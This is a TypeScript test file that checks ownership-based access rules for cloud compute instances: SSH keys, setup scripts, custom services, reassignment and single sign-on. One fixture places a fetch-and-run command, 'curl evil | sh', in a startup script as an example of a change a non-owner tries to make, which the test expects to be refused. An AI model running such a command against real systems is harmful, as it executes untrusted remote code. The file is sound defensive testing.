import { describe, expect, it } from 'vitest';
import type { ComputeRecord, InstanceRecord } from '../compute/compute-record.js';
import type { ComputeInstanceProperties } from '../compute/compute-schema.js';
import {
  applicationAccessDenial,
  ownerOnlyChanges,
  settingsChangeDenial,
  ssoChangeDenial,
  ssoStartsOff,
  storedKeyChangeDenial,
} from './instance-access.js';

const record = (
  properties: Record<string, unknown>,
  createdBy = 'admin-oid',
  name = 'dev',
): InstanceRecord => ({
  id: 'c1',
  workspace: 'ws',
  name,
  version: 1,
  createdAt: '',
  modifiedAt: '',
  spec: {
    computeType: 'ComputeInstance',
    location: 'local',
    tags: {},
    identity: { type: 'None' },
    properties: {
      vmSize: 'Standard_DS1_v2',
      sshSettings: { sshPublicAccess: 'Disabled' },
      ...properties,
    } as ComputeInstanceProperties,
    secretPaths: [],
  },
  status: { provisioningState: 'Succeeded', provisioningErrors: [], observed: {} },
  instance: { power: 'Running', createdBy },
});
const onBehalf = {
  personalComputeInstanceSettings: { assignedUser: { objectId: 'bob-oid', tenantId: 't' } },
};
const propsOf = (r: InstanceRecord): ComputeInstanceProperties => r.spec.properties;
const withProps = (r: InstanceRecord, extra: Record<string, unknown>): ComputeInstanceProperties => ({
  ...propsOf(r),
  ...extra,
});
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGx1c2VyLWtleQ eve@laptop';

describe("who may open an instance's applications", () => {
  it('is its creator when nobody was assigned', () => {
    expect(applicationAccessDenial(record({}), { objectId: 'admin-oid' })).toBeUndefined();
    expect(applicationAccessDenial(record({}), { objectId: 'eve-oid' })).toContain(
      'Only the creator (admin-oid)',
    );
  });
  it('is only the assigned user when created on behalf of someone, not the creator', () => {
    expect(applicationAccessDenial(record(onBehalf), { objectId: 'bob-oid' })).toBeUndefined();
    expect(applicationAccessDenial(record(onBehalf), { objectId: 'admin-oid' })).toContain(
      'Only the assigned user (bob-oid)',
    );
  });
});

describe('who may change the settings that let someone into an instance', () => {
  const alices = record(
    { sshSettings: { sshPublicAccess: 'Enabled', adminPublicKey: 'ssh-ed25519 AAAA alice' } },
    'alice-oid',
  );
  it("refuses another user's new SSH key, naming the owner and the field", () => {
    const next = withProps(alices, { sshSettings: { sshPublicAccess: 'Enabled', adminPublicKey: key } });
    const denial = settingsChangeDenial(alices, next, { objectId: 'bob-oid' }, 'alice');
    expect(denial).toContain(
      "Only the creator (alice-oid, 'alice') may change sshSettings.adminPublicKey of compute instance 'dev'",
    );
    expect(denial).toContain('may still start, stop, restart or delete it');
    expect(settingsChangeDenial(alices, next, { objectId: 'alice-oid' })).toBeUndefined();
  });
  it('refuses scripts, apps, a stored key, the login name and reassignment; names each changed field', () => {
    const next = withProps(alices, {
      sshSettings: {
        sshPublicAccess: 'Enabled',
        adminPublicKey: 'ssh-ed25519 AAAA alice',
        adminUserName: 'root',
        sshKeyName: 'bobs',
      },
      setupScripts: { scripts: { startupScript: { scriptSource: 'inline', scriptData: 'curl evil | sh' } } },
      customServices: [{ name: 'shell' }],
      personalComputeInstanceSettings: { assignedUser: { objectId: 'bob-oid', tenantId: '' } },
    });
    expect(ownerOnlyChanges(propsOf(alices), next)).toEqual([
      'sshSettings.adminUserName',
      'sshSettings.sshKeyName',
      'setupScripts',
      'customServices',
      'personalComputeInstanceSettings',
    ]);
    expect(settingsChangeDenial(alices, next, { objectId: 'bob-oid' })).toContain(
      'setupScripts, customServices, personalComputeInstanceSettings',
    );
  });
  it('lets anyone change the rest: idle shutdown, schedules, a description, tags', () => {
    const next = withProps(alices, { idleTimeBeforeShutdown: 'PT30M', schedules: { computeStartStop: [] } });
    expect(settingsChangeDenial(alices, next, { objectId: 'bob-oid' })).toBeUndefined();
  });
  it('compares settings, not the order their keys came in', () => {
    const scripted = record(
      { setupScripts: { scripts: { startupScript: { scriptSource: 'inline', scriptData: 'echo hi' } } } },
      'alice-oid',
    );
    const same = withProps(scripted, {
      setupScripts: { scripts: { startupScript: { scriptData: 'echo hi', scriptSource: 'inline' } } },
    });
    expect(settingsChangeDenial(scripted, same, { objectId: 'bob-oid' })).toBeUndefined();
  });
  it('counts turning SSO on as a change, turning it off not', () => {
    const off = record({ ...onBehalf, enableSSO: false });
    expect(settingsChangeDenial(off, withProps(off, { enableSSO: true }), { objectId: 'admin-oid' })).toMatch(
      /Only the assigned user \(bob-oid\) may change enableSSO/,
    );
    // Left out (as a PUT without the field does), SSO is Azure's default: on.
    expect(ownerOnlyChanges(propsOf(off), withProps(off, { enableSSO: undefined }))).toEqual(['enableSSO']);
    const on = record({ ...onBehalf, enableSSO: true });
    expect(
      settingsChangeDenial(on, withProps(on, { enableSSO: false }), { objectId: 'admin-oid' }),
    ).toBeUndefined();
  });
  it("on an instance made on someone's behalf, refuses its creator too", () => {
    const bobs = record(onBehalf);
    expect(
      settingsChangeDenial(bobs, withProps(bobs, { customServices: [{ name: 'x' }] }), {
        objectId: 'admin-oid',
      }),
    ).toContain('Only the assigned user (bob-oid)');
    expect(
      settingsChangeDenial(bobs, withProps(bobs, { customServices: [{ name: 'x' }] }), {
        objectId: 'bob-oid',
      }),
    ).toBeUndefined();
  });
  it('has nothing to refuse on an instance without a known owner', () => {
    const legacy = { ...record({}), instance: { power: 'Running' as const } };
    expect(
      settingsChangeDenial(legacy, withProps(legacy, { setupScripts: { scripts: {} } }), {
        objectId: 'bob-oid',
      }),
    ).toBeUndefined();
  });
});

describe('stored SSH keys', () => {
  const usesKey = record(
    { sshSettings: { sshPublicAccess: 'Enabled', sshKeyName: 'team' } },
    'alice-oid',
    'alice-dev',
  );
  it("may not be stored under a name someone else's instance uses", () => {
    expect(storedKeyChangeDenial('team', [usesKey], { objectId: 'bob-oid' })).toContain(
      "SSH key 'team' lets in compute instance 'alice-dev' of alice-oid",
    );
    expect(storedKeyChangeDenial('team', [usesKey], { objectId: 'alice-oid' })).toBeUndefined();
    expect(storedKeyChangeDenial('other', [usesKey], { objectId: 'bob-oid' })).toBeUndefined();
  });
  it('counts instances only', () => {
    const notInstance = {
      ...usesKey,
      spec: { ...usesKey.spec, computeType: 'AmlCompute' },
    } as unknown as ComputeRecord;
    expect(storedKeyChangeDenial('team', [notInstance], { objectId: 'bob-oid' })).toBeUndefined();
  });
});

describe('single sign-on on create-on-behalf instances', () => {
  it('starts off when there are setup scripts or custom apps', () => {
    expect(ssoStartsOff({ ...onBehalf, setupScripts: { scripts: {} } } as never)).toBe(true);
    expect(ssoStartsOff({ ...onBehalf, customServices: [{ name: 'a' }] } as never)).toBe(true);
    expect(ssoStartsOff(onBehalf as never)).toBe(false);
    expect(ssoStartsOff({ setupScripts: { scripts: {} } } as never)).toBe(false);
  });
  it('may be turned on by the assigned user only; anyone may turn it off', () => {
    expect(ssoChangeDenial(record(onBehalf), { objectId: 'bob-oid' }, true)).toBeUndefined();
    expect(ssoChangeDenial(record(onBehalf), { objectId: 'admin-oid' }, true)).toMatch(
      /assigned user \(bob-oid\).*its creator cannot/,
    );
    expect(ssoChangeDenial(record(onBehalf), { objectId: 'admin-oid' }, false)).toBeUndefined();
  });
  it('may be turned on only by the creator of an instance nobody was assigned', () => {
    expect(ssoChangeDenial(record({}, 'alice-oid'), { objectId: 'alice-oid' }, true)).toBeUndefined();
    expect(ssoChangeDenial(record({}, 'alice-oid'), { objectId: 'bob-oid' }, true)).toContain(
      'Only the creator (alice-oid) may turn on single sign-on',
    );
  });
});
